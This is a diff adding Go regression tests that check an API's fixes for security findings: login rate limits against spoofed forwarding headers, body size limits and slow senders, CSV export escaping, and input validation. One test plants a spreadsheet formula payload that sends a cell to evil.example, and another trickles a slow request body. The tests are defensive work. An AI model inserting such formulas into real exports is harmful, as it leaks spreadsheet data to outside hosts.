@@ -1,9 +1,20 @@
 package api_test
 
 import (
+	"bytes"
+	"encoding/csv"
+	"encoding/json"
+	"errors"
 	"fmt"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"os"
+	"strings"
 	"sync"
 	"testing"
+	"time"
 )
 
 // race sends the calls at once and returns their statuses in the same order.
@@ -203,5 +214,198 @@ func TestAmountsHaveAMaximum(t *testing.T) {
 	hs.vendor("v")
 	if code, _ := hs.call("PUT", "/api/v1/vendors/v/products/BIG", map[string]any{"bv": "1000000000.01", "cv": "1", "retail_commission": "1"}); code != 422 {
 		t.Errorf("a product beyond the maximum: %d", code)
+	}
+}
+
+// Issue #14, finding 10: search text is searched for, whatever it holds.
+func TestArticleSearchTakesAnyText(t *testing.T) {
+	hs := newHarness(t)
+	if code, b := hs.call("POST", "/api/v1/kb/articles", map[string]any{"title": "Solar and batteries", "body_markdown": "Panels AND storage", "audience": "all", "status": "published"}); code != 201 {
+		t.Fatalf("article: %d %v", code, b)
+	}
+	for _, q := range []string{"AND", "OR", "NOT", "solar AND", "and", "the", "TO", "solar OR", `"unclosed`, "a:b", "(", "\\", "*", "NOT solar"} {
+		if code, b := hs.call("GET", "/api/v1/kb/articles?q="+url.QueryEscape(q), nil); code != 200 {
+			t.Errorf("q=%q: %d %v", q, code, b)
+		}
+	}
+	if _, b := hs.call("GET", "/api/v1/kb/articles?q="+url.QueryEscape("solar AND"), nil); len(items(b)) != 1 {
+		t.Errorf("the words still find the article: %v", b)
+	}
+}
+
+// callFrom sends JSON without a token from a remote address, with extra headers.
+func (hs *harness) callFrom(remote string, headers map[string]string, method, path string, body any) (int, map[string]any, http.Header) {
+	hs.t.Helper()
+	data, _ := json.Marshal(body)
+	req := httptest.NewRequest(method, path, bytes.NewReader(data))
+	req.RemoteAddr = remote
+	req.Header.Set("Content-Type", "application/json")
+	for k, v := range headers {
+		req.Header.Set(k, v)
+	}
+	w := httptest.NewRecorder()
+	hs.h.ServeHTTP(w, req)
+	var out map[string]any
+	_ = json.Unmarshal(w.Body.Bytes(), &out)
+	return w.Code, out, w.Header()
+}
+
+// Issue #14, findings 5 and 6: forwarding headers are ignored unless a proxy is trusted, so the
+// per-address limit holds; and parallel attempts on one account never exceed its limit.
+func TestLoginLimitsHoldAgainstHeadersAndParallelAttempts(t *testing.T) {
+	hs := newHarness(t) // 3 failures per account, 20 per address
+	limited := 0
+	for i := 0; i < 25; i++ {
+		code, _, _ := hs.callFrom("203.0.113.9:4000", map[string]string{"X-Forwarded-For": fmt.Sprintf("10.1.%d.%d", i, i), "X-Real-IP": fmt.Sprintf("10.2.0.%d", i)},
+			"POST", "/api/v1/auth/login", map[string]any{"email": fmt.Sprintf("nobody%d@example.com", i), "password": "wrong-password"})
+		if code == 429 {
+			limited++
+		}
+	}
+	if limited != 5 {
+		t.Errorf("%d of 25 attempts from one address were limited, want the 5 beyond its 20", limited)
+	}
+	hs.register("A", "consultant", "root", at("root", "left"))
+	calls := make([]func() int, 40)
+	for i := range calls {
+		calls[i] = func() int {
+			c, _, _ := hs.callFrom(fmt.Sprintf("198.51.100.%d:4000", i), nil, "POST", "/api/v1/auth/login", map[string]any{"email": "A@example.com", "password": "wrong-password"})
+			return c
+		}
+	}
+	evaluated := 0
+	for _, c := range race(calls...) {
+		if c == 401 {
+			evaluated++
+		} else if c != 429 {
+			t.Errorf("status %d", c)
+		}
+	}
+	if evaluated != 3 {
+		t.Errorf("%d of 40 parallel attempts were evaluated, want 3", evaluated)
+	}
+}
+
+// Issue #14, finding 7: every route bounds its body (413 in the API shape), and a body sent too
+// slowly loses its connection.
+func TestBodiesAreBoundedAndSlowSendersCutOff(t *testing.T) {
+	hs := newHarness(t)
+	big := `{"referral_code":"root","id":"x","name":"` + strings.Repeat("a", 2<<20) + `"}`
+	for _, path := range []string{"/api/v1/join", "/api/v1/auth/login", "/api/v1/members"} {
+		status, b := hs.raw("POST", path, "application/json", big)
+		if code, _, _ := errOf(b); status != 413 || code != "too_large" {
+			t.Errorf("%s: %d %v", path, status, b)
+		}
+	}
+	// A real connection: the body trickles in, the server gives up after the read timeout.
+	srv := hs.app.API()
+	srv.ReadTimeout = 300 * time.Millisecond
+	ts := httptest.NewServer(srv.Handler())
+	defer ts.Close()
+	conn, err := net.Dial("tcp", ts.Listener.Addr().String())
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer conn.Close()
+	fmt.Fprintf(conn, "POST /api/v1/auth/login HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n{")
+	start := time.Now()
+	closed := false
+	for i := 0; i < 20 && !closed; i++ {
+		time.Sleep(100 * time.Millisecond)
+		if _, err := conn.Write([]byte(" ")); err != nil {
+			closed = true
+		}
+		_ = conn.SetReadDeadline(time.Now().Add(10 * time.Millisecond))
+		if n, err := conn.Read(make([]byte, 512)); n > 0 || (err != nil && !errors.Is(err, os.ErrDeadlineExceeded)) {
+			closed = true
+		}
+	}
+	if !closed || time.Since(start) > 1500*time.Millisecond {
+		t.Errorf("a trickling body held the connection for %s", time.Since(start))
+	}
+}
+
+// Issue #14, finding 8: exports neutralise cells a spreadsheet would run as formulas.
+func TestExportsNeutraliseFormulas(t *testing.T) {
+	hs := newHarness(t)
+	evil := `=HYPERLINK("https://evil.example/?x="&B2,"Open")`
+	if code, b := hs.call("POST", "/api/v1/members", map[string]any{"id": "E", "name": evil, "email": "e@example.com", "plan": "consultant", "sponsor_id": "root",
+		"placement": at("root", "left"), "registered_at": "2026-01-01T01:00:00Z"}); code != 201 {
+		t.Fatalf("register: %d %v", code, b)
+	}
+	start := time.Now().Add(48 * time.Hour).UTC().Format(time.RFC3339)
+	_, ev := hs.call("POST", "/api/v1/events", map[string]any{"title": "Rally", "format": "in_person", "location": "Austin", "starts_at": start,
+		"duration_minutes": 60, "status": "published", "audience": "all"})
+	if code, b := hs.call("POST", "/api/v1/events/"+ev["id"].(string)+"/registrations", map[string]any{"member_id": "E"}); code != 201 {
+		t.Fatalf("registration: %d %v", code, b)
+	}
+	_, sheet := hs.csv("/api/v1/events/" + ev["id"].(string) + "/export.csv")
+	hs.call("POST", "/api/v1/members/E/wallet/adjustments", map[string]any{"amount": "100.00", "reason": "x"})
+	_, wd := hs.call("POST", "/api/v1/members/E/withdrawals", map[string]any{"amount": "60.00"})
+	hs.call("POST", "/api/v1/withdrawals/"+wd["id"].(string)+"/approve", nil)
+	_, payments := hs.csv("/api/v1/withdrawals/export.csv")
+	for name, text := range map[string]string{"registrations": sheet, "withdrawals": payments} {
+		rows, err := csv.NewReader(strings.NewReader(text)).ReadAll()
+		if err != nil || len(rows) < 2 {
+			t.Fatalf("%s: %v %q", name, err, text)
+		}
+		found := false
+		for _, cell := range rows[1] {
+			if strings.Contains(cell, "HYPERLINK") {
+				found = true
+				if !strings.HasPrefix(cell, "'=") {
+					t.Errorf("%s: %q is not neutralised", name, cell)
+				}
+			}
+		}
+		if !found {
+			t.Errorf("%s: the name is missing: %v", name, rows[1])
+		}
+	}
+}
+
+// Issue #14, findings 9 and 13: one bad event (a 33,000-character name) is rejected alone, and a
+// vendor cannot report services for a customer that never signed up with it.
+func TestIngestRejectsOneBadEventAndUnlinkedCustomers(t *testing.T) {
+	hs := newHarness(t)
+	hs.register("A", "consultant", "root", at("root", "left"))
+	hs.register("cu", "customer", "A", nil)
+	sun := hs.vendor("sun")
+	long := signup("e1", "c1", "A")
+	long["data"].(map[string]any)["name"] = strings.Repeat("n", 33000)
+	code, b := hs.send("sun", sun, events(long, signup("e2", "c2", "A"), activated("e3", "a1", "cu", "SOLAR-6KW", "2026-02-02T10:00:00Z")), 0)
+	if want := "rejected(invalid) accepted rejected(invalid)"; code != 200 || statuses(b) != want {
+		t.Errorf("%d %s, want %s (%v)", code, statuses(b), want, b)
+	}
+}
+
+// Issue #14, findings 11–13: /join is throttled per address; messages about a malformed body name
+// no Go types; a null track is refused, not an empty one; answers are neither sniffed nor cached.
+func TestJoinThrottleMessagesTrackAndHeaders(t *testing.T) {
+	hs := newHarness(t)
+	throttled := 0
+	for i := 0; i < 12; i++ {
+		code, _, _ := hs.callFrom("203.0.113.50:4000", nil, "POST", "/api/v1/join", map[string]any{"referral_code": "root", "id": fmt.Sprintf("J%d", i),
+			"name": "J", "email": fmt.Sprintf("j%d@example.com", i), "password": "long-enough-1", "plan": "consultant"})
+		if code == 429 {
+			throttled++
+		}
+	}
+	if throttled != 2 {
+		t.Errorf("%d of 12 self-registrations from one address were throttled, want 2", throttled)
+	}
+	code, b, h := hs.callFrom("203.0.113.51:4000", nil, "POST", "/api/v1/join", map[string]any{"referral_code": 7})
+	if _, msg, _ := errOf(b); code != 400 || strings.Contains(msg, "Go ") || strings.Contains(msg, "struct") || !strings.Contains(msg, "referral_code must be a string") {
+		t.Errorf("a wrong type: %d %q", code, msg)
+	}
+	if h.Get("X-Content-Type-Options") != "nosniff" || h.Get("Cache-Control") != "no-store" {
+		t.Errorf("headers: %v", h)
+	}
+	if code, b := hs.raw("PUT", "/api/v1/onboarding/track", "application/json", "null"); code != 422 {
+		t.Errorf("a null track: %d %v", code, b)
+	}
+	sun := hs.vendor("sun")
+	if code, b := hs.send("sun", sun, []byte(`{"events":"all of them"}`), 0); code != 400 || strings.Contains(fmt.Sprint(b), "RawMessage") {
+		t.Errorf("a malformed ingest body: %d %v", code, b)
 	}
 }
